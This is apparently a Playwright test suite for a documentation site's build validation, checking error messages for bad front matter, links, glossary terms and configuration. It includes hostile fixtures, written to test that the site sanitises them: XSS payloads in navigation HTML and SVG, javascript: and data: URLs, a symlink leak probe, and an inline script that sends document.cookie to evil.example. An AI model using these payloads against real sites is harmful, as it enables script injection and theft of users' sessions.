import fs from 'node:fs/promises';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import type { ChildProcess } from 'node:child_process';
import {
  buildAndDiscard,
  buildFixture,
  edit,
  removeFixture,
  serveFixture,
  stopServer,
  type FixtureBuild,
} from './buildFixture';

/** Port of the build with mistakes that do not stop it, served for the browser; PORT + 1 to 15 are other tests'. */
const MISTAKES_PORT = Number(process.env.E2E_PORT ?? 9100) + 16;

/** A frame of a JavaScript stack trace, as Node prints one: an editor's mistake is reported without any. */
const STACK_FRAME = / at (?:async )?(?:\S+ \()?(?:file:\/\/|node:|\/)\S+:\d+:\d+\)?/;

/** Asserts the build stopped on an editor's mistake and printed each text of its message, without a stack trace. */
function expectStopped({ code, output }: Omit<FixtureBuild, 'dir'>, ...texts: string[]): void {
  expect(code).not.toBe(0);
  for (const text of texts) expect(output).toContain(text);
  expect(output).not.toMatch(STACK_FRAME);
}

test.describe('build-time validation', () => {
  test.setTimeout(600_000);

  test('a YAML mistake in front matter fails the build naming the file, the line and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) => text.replace(/^title: (.*)$/m, 'title: "$1')),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'line 3, column 8: Missing closing "quote (YAML syntax)',
      'quote a value that holds ": " or starts with a quote, and close every quote',
    );
    expect(build.output).not.toContain('gatsby-plugin-mdx');
  });

  test('a sidebar entry naming a doc that does not exist fails the build naming the file, the line and the known ids', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/navigation/sidebars.yml'), (text) => `${text}  - type: doc\n    id: ghost-doc\n`),
    );
    expectStopped(
      build,
      'content/navigation/sidebars.yml: line 15: tutorialSidebar[3].id: found "ghost-doc"; expected the id of a doc in the docs folder (known ids: index, resources, wants). Fix the id or add the doc.',
    );
    expect(build.output).not.toContain('There was an unhandled error');
  });

  test('a front matter value of the wrong type fails the build naming the line, the key and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace(/^sidebar_position: .*$/m, 'sidebar_position: third'),
      ),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'line 6: sidebar_position: found "third"; expected a value of type number; use a whole number such as 2',
    );
  });

  test('a custom_edit_url that is not https and a last_update date that is no day fail the build naming the file, each key and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('---\n', '---\ncustom_edit_url: http://example.com/edit\nlast_update:\n  date: 31/05/2024\n'),
      ),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'line 2: custom_edit_url: found "http://example.com/edit"; expected an https address',
      'write the full https address of the page that edits this doc, or null to hide the link',
      'line 4: last_update.date: found "31/05/2024"; expected a date written year-month-day, such as 2024-05-31',
    );
  });

  test('an empty doc file fails the build naming it and what a doc starts with', async () => {
    const build = await buildAndDiscard((dir) => fs.writeFile(path.join(dir, 'content/docs/trading.mdx'), ''));
    expectStopped(
      build,
      'Invalid front matter in content/docs/trading.mdx',
      'line 1: no front matter (the file is empty); start the file with a --- line',
    );
  });

  test('an invalid SITE_URL fails the build naming the variable, what was found and the fix', async () => {
    const build = await buildAndDiscard(() => Promise.resolve(), { env: { SITE_URL: 'docs.trove.app' } });
    expectStopped(
      build,
      'SITE_URL: found "docs.trove.app"; expected the http(s) URL the site is served at, without a trailing slash',
    );
  });

  test('a doc without a title fails the build naming the file and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) => text.replace(/^title: .*\n/m, '')),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/wants.mdx',
      'title: missing; add a "title:" line with the page heading',
    );
  });

  test('a front matter key the site does not support fails the build naming it, its line and what to do instead', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/resources.mdx'), (text) =>
        text.replace('---\n', '---\ndisplayed_sidebar: guides\ncolour: red\n'),
      ),
    );
    expectStopped(
      build,
      'Invalid front matter in content/docs/resources.mdx',
      'line 2: displayed_sidebar: a Docusaurus key this site does not support; a doc shows the first sidebar that lists it',
      'line 3: colour: unknown key (Docusaurus would hand it to a swizzled theme, which this site has not); remove it or use one of id, title, description',
    );
  });

  test("a locale's strings file with an unknown key or a lost placeholder fails the build naming the file, each key and the fix", async () => {
    const build = await buildAndDiscard(async (dir) => {
      await fs.mkdir(path.join(dir, 'content/i18n/en'), { recursive: true });
      await fs.writeFile(
        path.join(dir, 'content/i18n/en/strings.json'),
        JSON.stringify({ 'toc.titel': { message: 'Contents' }, 'search.resultsCount': { message: '{n} hits' } }),
      );
    });
    expectStopped(
      build,
      'content/i18n/en/strings.json:',
      '"toc.titel": unknown key; the site writes no such string. Remove it, or check its spelling against the catalogue',
      '"search.resultsCount".message: "{n} hits" lacks {count} and has {n}, which the site does not fill in; keep the placeholders of "{count} results" as written ({count})',
      '`npm run i18n:extract` rewrites the file with every key, keeping its translations.',
    );
  });

  test('an invalid site config fails the build with the key path, found and expected', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'src/config/site.config.ts'), (text) => text.replace(/^ {2}url: '(.*)',$/m, "  url: '$1/',")),
    );
    expectStopped(
      build,
      'Invalid site config (src/config/site.config.ts)',
      'url: found "https://docs.trove.app/"; expected a URL without a trailing slash',
    );
  });

  test('a doc file name outside the id rule fails the build naming the file and the name to use', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'content/docs/Resource Guides.mdx'),
        '---\ntitle: Resource guides\ndescription: Where to find price guides.\n---\n\nPrice guides, by hobby.\n',
      ),
    );
    expectStopped(
      build,
      'Invalid content/docs/Resource Guides.mdx',
      'file name: found "Resource Guides"; expected lowercase letters, digits and dashes',
      'rename the file to resource-guides.mdx',
    );
  });

  test('invalid CMS settings fail the build naming each variable and the fix', async () => {
    const build = await buildAndDiscard(async () => undefined, {
      env: { CMS_BACKEND: 'github', CMS_BRANCH: 'no branch' },
    });
    expectStopped(
      build,
      'Invalid CMS settings',
      'CMS_REPO: missing; CMS_BACKEND=github needs the repository the CMS commits to: set it to owner/name',
      'CMS_BRANCH: found "no branch"',
    );
  });

  test('an invalid navigation file fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'content/navigation/navbar.yml'),
        'items:\n  - type: search\n    position: right\n  - type: joke\nhideOnScroll: false\n',
      ),
    );
    expectStopped(
      build,
      'Invalid content/navigation/navbar.yml',
      'line 4: items[1].type: found "joke"; expected one of "default", "doc"',
    );
  });

  test('an invalid _category_.yml fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard(async (dir) => {
      const folder = path.join(dir, 'content/docs/guides');
      await fs.mkdir(folder);
      await fs.writeFile(path.join(folder, '_category_.yml'), 'label: Guides\nposition: two\n');
      await fs.writeFile(
        path.join(folder, 'alerts.mdx'),
        '---\ntitle: Price alerts\ndescription: Get told when a want is offered.\n---\n\nAlerts.\n',
      );
    });
    expectStopped(
      build,
      'Invalid content/docs/guides/_category_.yml',
      'line 2: position: found "two"; expected a value of type number',
    );
  });

  test('a javascript:, data: or //host URL in a navigation file fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'content/navigation/navbar.yml'),
        [
          'items:',
          '  - type: default',
          '    label: Status',
          '    href: "jAvAsCrIpT:alert(document.domain)"',
          '  - type: dropdown',
          '    label: More',
          '    items:',
          '      - label: Help',
          '        to: //evil.example/help',
          '      - label: Blog',
          '        href: "data:text/html,<script>alert(1)</script>"',
          'hideOnScroll: false',
          '',
        ].join('\n'),
      ),
    );
    expectStopped(
      build,
      'Invalid content/navigation/navbar.yml',
      'line 4: items[0].href: found "jAvAsCrIpT:alert(document.domain)"; expected the address of another site, such as "https://trove.app", or "mailto:…" (this one uses the scheme "javascript:", which is not allowed)',
      'line 9: items[1].items[0].to: found "//evil.example/help"; expected a path of this site starting with one "/", such as "/wants" (this one starts with "//", which leaves the site for another host',
      'line 11: items[1].items[1].href: found "data:text/html,<script>alert(1)</script>"; expected the address of another site',
    );
  });

  test('a doc linked from outside the content folder fails the build naming the link and its target', async () => {
    const build = await buildAndDiscard(async (dir) => {
      // A file of the build machine, such as the project's .env: the doc would publish it.
      await fs.writeFile(
        path.join(dir, 'outside.mdx'),
        '---\ntitle: Leak\ndescription: A file outside the content.\n---\n\nTROVE_SECRET_PROBE=leaked\n',
      );
      await fs.symlink('../../outside.mdx', path.join(dir, 'content/docs/leak.mdx'));
    });
    expectStopped(
      build,
      'content/docs/leak.mdx leads through a symbolic link to',
      '/outside.mdx, outside the content folder (content/): the build reads only files inside it. Put the file itself in the folder, in place of the link.',
    );
  });

  test('a hostile SVG or an HTML file in media/ fails the build naming each file and what to remove', async () => {
    const build = await buildAndDiscard(async (dir) => {
      const media = path.join(dir, 'content/media');
      await fs.mkdir(media);
      await fs.writeFile(
        path.join(media, 'chart.svg'),
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' +
          '<g><script>alert(document.domain)</script></g>' +
          '<a xlink:href="java&#x09;script:alert(1)"><text>Open</text></a>' +
          '<use href="https://evil.example/sprite.svg#icon"/></svg>',
      );
      await fs.writeFile(path.join(media, 'sign-in.html'), '<script>alert(document.domain)</script>');
    });
    expectStopped(
      build,
      'Media files the site cannot serve',
      'content/media/chart.svg: <script>, which runs code or shows another document: remove it',
      'content/media/chart.svg: xlink:href="java&#x9;script:alert(1)" on <a>, a URL that runs script: remove it',
      'content/media/chart.svg: href="https://evil.example/sprite.svg#icon" on <use>, a <use> of another file',
      'content/media/sign-in.html: media/ holds only .png, .jpg',
    );
  });

  test('two docs with one id fail the build, naming both files', async () => {
    const build = await buildAndDiscard(async (dir) => {
      const copy = await fs.readFile(path.join(dir, 'content/docs/wants.mdx'), 'utf8');
      expect(copy).toMatch(/^id: wants$/m);
      await fs.writeFile(path.join(dir, 'content/docs/wants-draft.mdx'), copy);
    });
    expectStopped(
      build,
      'Two docs have one id: - "wants": content/docs/wants-draft.mdx, content/docs/wants.mdx',
      'rename a file or change an "id"',
    );
  });

  test('an MDX syntax error fails the build naming the file, the line and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('## Price ceilings', 'Set a <span>ceiling per want.\n\n## Price ceilings'),
      ),
    );
    expectStopped(
      build,
      'Could not build content/docs/wants.mdx:71:7 (line 64 of the body): `<span>` (71:7-71:13) is never closed: ' +
        'add `</span>` before the end of its paragraph',
      'Fix the doc there: it holds Markdown, admonitions and the components and HTML elements docs/editing.md lists',
    );
  });

  test('a term the glossary does not define fails the build naming the file, the line and the closest term', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('When a :term[goal] is', 'When a :term[gaol] is'),
      ),
    );
    expectStopped(
      build,
      'Could not build content/docs/wants.mdx:36:8',
      'The glossary defines no term ":term[gaol]": the closest defined term is "goal"; write that, or add the term to the glossary (36:8-36:19)',
    );
  });

  test('a glossary that gives one name to two terms fails the build naming the file, the line and the key', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/glossary.yml'), (text) =>
        text.replace('aliases: [wants]', 'aliases: [wants, haves]'),
      ),
    );
    expectStopped(
      build,
      'Invalid content/glossary.yml',
      'line 14: want.aliases[1]: found "haves"; expected a name no other term has ("haves" is a name of the term have)',
      'Fix the glossary: one id per term',
    );
  });

  test('a broken link fails the build, listing each page and its broken links', async () => {
    const build = await buildAndDiscard((dir) =>
      edit(path.join(dir, 'content/docs/wants.mdx'), (text) =>
        text.replace('## Price ceilings', 'See the [old guide](/guides/want-lists).\n\n## Price ceilings'),
      ),
    );
    expectStopped(
      build,
      'Broken links (no page or file at the target): - On /wants: - /guides/want-lists',
      'Fix each link to point at an existing route',
    );
  });

  test('inline code the site did not write fails the build, naming the page and the first characters', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'src/pages/changelog.tsx'),
        [
          "import React from 'react';",
          '',
          'export default function Changelog() {',
          '  return (',
          '    <main>',
          "      <h1 style={{ color: 'red' }}>Changelog</h1>",
          '      <script dangerouslySetInnerHTML={{ __html: "fetch(\'https://evil.example/?c=\' + document.cookie)" }} />',
          '    </main>',
          '  );',
          '}',
          '',
        ].join('\n'),
      ),
    );
    expectStopped(
      build,
      'Inline code the site did not write, which the Content Security Policy does not allow:',
      `- Inline script "fetch('https://evil.example/?c=' + document.cookie)" on /changelog -`,
      '- Style attribute "color:red" on /changelog',
      'Content may not carry scripts or styles',
    );
  });

  test('a page module without a default export fails the build naming the file and the fix', async () => {
    const build = await buildAndDiscard((dir) =>
      fs.writeFile(
        path.join(dir, 'src/pages/changelog.tsx'),
        "import React from 'react';\n\nexport function Changelog() {\n  return <h1>Changelog</h1>;\n}\n",
      ),
    );
    expectStopped(build, 'created a page without a valid default export', 'please use "export default" instead');
    expect(build.output).toMatch(/The path to the page is "[^"]*src\/pages\/changelog\.tsx"/);
  });
});

/**
 * HTML an editor with write access to the navigation could write: each payload carries a marker
 * that may appear in no page, and each is named in the build's warning.
 */
const HOSTILE_ANNOUNCEMENT =
  'New: <b onmouseover="alert(\'hostile-1\')">alerts</b>. <script>alert("hostile-2")</script>' +
  '<img src=x onerror="alert(\'hostile-3\')"> <a href="java&#x09;script:alert(\'hostile-4\')">Set one up</a> ' +
  '<a href="//evil.example/hostile-5">Sign in</a> <svg><script>alert("hostile-6")</script></svg>';
const HOSTILE_BADGE =
  '<a href="https://status.trove.app" style="position:fixed;inset:0" onclick="alert(\'hostile-7\')">Status</a>';

/** A PNG of 2 by 1 pixels. */
const SHELF_PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAABCAIAAAB7QOjdAAAAEElEQVR4nGNgYPj/n4GBAQAJ+AL+kR8thAAAAABJRU5ErkJggg==',
  'base64',
);

// Mistakes that leave a working site share one build: each test checks its own part of it.
test.describe('a build with mistakes that do not stop it', () => {
  test.describe.configure({ mode: 'default' });
  const title = 'Wants <em>& "trades"</em>';
  const description = 'Lists of what you seek: <b>priorities</b> & "ceilings".';
  let build: FixtureBuild;

  test.beforeAll(async () => {
    test.setTimeout(600_000);
    const doc = (docTitle: string) => `---\ntitle: ${docTitle}\ndescription: Where to trade.\n---\n\nTrading.\n`;
    build = await buildFixture(async (root) => {
      // One edit per line, so each fails the test if its line is not there.
      const wants = path.join(root, 'content/docs/wants.mdx');
      await edit(wants, (text) => text.replace(/^title: .*$/m, `title: '${title}'`));
      await edit(wants, (text) => text.replace(/^description: .*$/m, `description: '${description}'`));
      await fs.mkdir(path.join(root, 'content/docs/trading'));
      await fs.writeFile(path.join(root, 'content/docs/trading.mdx'), doc('Trading'));
      await fs.writeFile(path.join(root, 'content/docs/trading/index.mdx'), doc('Trading overview'));
      await edit(path.join(root, 'content/docs/resources.mdx'), (text) =>
        text.replace(
          '## Condition scales',
          'Set [a ceiling](/wants#price-cap) and read [the trades file](./trades.mdx).\n\n## Condition scales',
        ),
      );
      const navigation = path.join(root, 'content/navigation');
      await edit(path.join(navigation, 'announcement.yml'), (text) =>
        text.replace(/^content: .*$/m, `content: '${HOSTILE_ANNOUNCEMENT.replaceAll("'", "''")}'`),
      );
      await edit(path.join(navigation, 'navbar.yml'), (text) =>
        text.replace(
          '  - type: search\n',
          `  - type: html\n    value: '${HOSTILE_BADGE.replaceAll("'", "''")}'\n    position: right\n  - type: search\n`,
        ),
      );
      await fs.mkdir(path.join(root, 'content/media'));
      await fs.writeFile(path.join(root, 'content/media/shelf.png'), SHELF_PNG);
      await edit(wants, (text) =>
        text.replace('## Price ceilings', '![A shelf of wants](/media/shelf.png)\n\n## Price ceilings'),
      );
    });
  });

  test.afterAll(async () => {
    if (build) await removeFixture(build.dir);
  });

  test('a title and description with markup and quotes build, escaped in the page', async () => {
    expect(build.code).toBe(0);
    const html = await fs.readFile(path.join(build.dir, 'public/wants/index.html'), 'utf8');
    expect(html).toContain('<h1>Wants &lt;em&gt;&amp; &quot;trades&quot;&lt;/em&gt;</h1>');
    expect(html).toMatch(/<title[^>]*>Wants &lt;em&gt;&amp; &quot;trades&quot;&lt;\/em&gt; \| Trove<\/title>/);
    expect(html).toContain(
      'content="Lists of what you seek: &lt;b&gt;priorities&lt;/b&gt; &amp; &quot;ceilings&quot;."',
    );
    expect(html).not.toContain('<em>&');
  });

  test('two docs on one route warn, naming both files, and the build goes on', async () => {
    expect(build.output).toContain(
      'Duplicate route /trading: content/docs/trading.mdx, content/docs/trading/index.mdx all claim it; content/docs/trading/index.mdx is served.',
    );
    expect(build.code).toBe(0);
    const served = await fs.readFile(path.join(build.dir, 'public/trading/index.html'), 'utf8');
    expect(served).toContain('<h1>Trading overview</h1>');
  });

  test('broken anchors and broken Markdown links only warn', async () => {
    expect(build.output).toContain(
      'Broken anchors (the page exists, the heading id does not): - On /resources: - /wants#price-cap',
    );
    expect(build.output).toContain('Broken Markdown links (no doc has that file): - On /resources: - ./trades.mdx');
    expect(build.output).toContain('such as [want lists](./wants.mdx), or to its route (/wants)');
    expect(build.code).toBe(0);
  });

  test('HTML in the navigation reaches the pages inert, and the warning names the file, the line, the key and what went', async () => {
    expect(build.code).toBe(0);
    const pages = (await fs.readdir(path.join(build.dir, 'public'), { recursive: true, withFileTypes: true }))
      .filter((entry) => entry.isFile() && entry.name.endsWith('.html'))
      .map((entry) => path.relative(path.join(build.dir, 'public'), path.join(entry.parentPath, entry.name)));
    expect(pages).toEqual(expect.arrayContaining(['index.html', 'wants/index.html', '404.html']));
    for (const page of pages) {
      const html = await fs.readFile(path.join(build.dir, 'public', page), 'utf8');
      // No event handler attribute, script URL or payload anywhere: the site writes none of these itself.
      expect(html).not.toMatch(/\son[a-z]+\s*=/i);
      expect(html).not.toMatch(/javascript:|evil\.example|hostile-\d|style="position:fixed/i);
    }
    for (const page of ['index.html', 'wants/index.html', '404.html']) {
      const html = await fs.readFile(path.join(build.dir, 'public', page), 'utf8');
      expect(html).toContain('New: <b>alerts</b>. <img> <a>Set one up</a> <a>Sign in</a> ');
      expect(html).toContain('<span class="navbar__html"><a href="https://status.trove.app">Status</a></span>');
    }
    expect(build.output).toContain(
      'content/navigation/announcement.yml: line 5: content: removed from its HTML, which the pages show without it: ' +
        '- onmouseover="alert(\'hostile-1\')" from <b>: an event handler runs script ' +
        '- <script> and all it holds: it runs, embeds or styles something, which HTML here may not ' +
        '- src="x" from <img>: it is relative to the page it is on, which is not the same on every page; an image here is a file of this site, such as /media/badge.png ' +
        '- onerror="alert(\'hostile-3\')" from <img>: an event handler runs script ' +
        '- href="java&#x9;script:alert(\'hostile-4\')" from <a>: it holds a control character',
    );
    // Once, though the chrome's query runs in several processes.
    expect(build.output.split('content/navigation/announcement.yml: line 5: content: removed')).toHaveLength(2);
    expect(build.output).toContain('- href="//evil.example/hostile-5" from <a>: it starts with "//"');
    expect(build.output).toContain('- <svg> and all it holds');
    expect(build.output).toContain(
      'content/navigation/navbar.yml: line 19: items[2].value: removed from its HTML, which the pages show without it: ' +
        '- style="position:fixed;inset:0" from <a>: <a> takes only href, title, target, rel ' +
        '- onclick="alert(\'hostile-7\')" from <a>: an event handler runs script ' +
        'HTML in the navigation may hold <a href title target rel>, <b>,',
    );
  });

  test('a file of media/ is served at /media/ and shown in a doc, and nothing in the navigation runs', async ({
    page,
  }) => {
    let server: ChildProcess | undefined;
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    try {
      server = await serveFixture(build.dir, MISTAKES_PORT);
      await page.goto(`http://127.0.0.1:${MISTAKES_PORT}/wants`);
      const image = page.getByRole('img', { name: 'A shelf of wants' });
      await expect(image).toHaveAttribute('src', '/media/shelf.png');
      await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth)).toBe(2);
      await page.getByRole('link', { name: 'Status' }).hover();
      await page.locator('.announcement__content b').hover();
      await page.getByRole('link', { name: 'Status' }).click({ trial: true });
    } finally {
      if (server) await stopServer(server);
    }
    expect(dialogs).toEqual([]);
  });
});
